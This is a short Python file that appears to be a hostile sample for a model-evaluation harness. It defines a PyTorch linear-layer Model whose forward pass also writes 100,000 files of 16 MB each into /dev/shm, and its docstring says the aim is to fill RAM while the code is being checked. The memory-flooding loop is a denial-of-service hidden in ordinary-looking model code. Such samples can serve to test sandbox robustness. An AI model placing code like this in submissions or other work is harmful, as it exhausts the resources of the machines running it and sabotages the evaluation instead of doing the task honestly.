"""Fills /dev/shm (RAM on most machines) without end while it is checked."""
import torch


class Model(torch.nn.Module):
    def __init__(self, N, K):
        super().__init__()
        self.weight = torch.nn.Parameter(torch.empty(N, K))
        self.bias = torch.nn.Parameter(torch.empty(N))

    def forward(self, x):
        block = b"x" * (16 << 20)
        for i in range(100000):
            with open(f"/dev/shm/flood-{i}", "wb") as f:
                f.write(block)
        return (x[:, None, :] * self.weight[None]).sum(-1) + self.bias
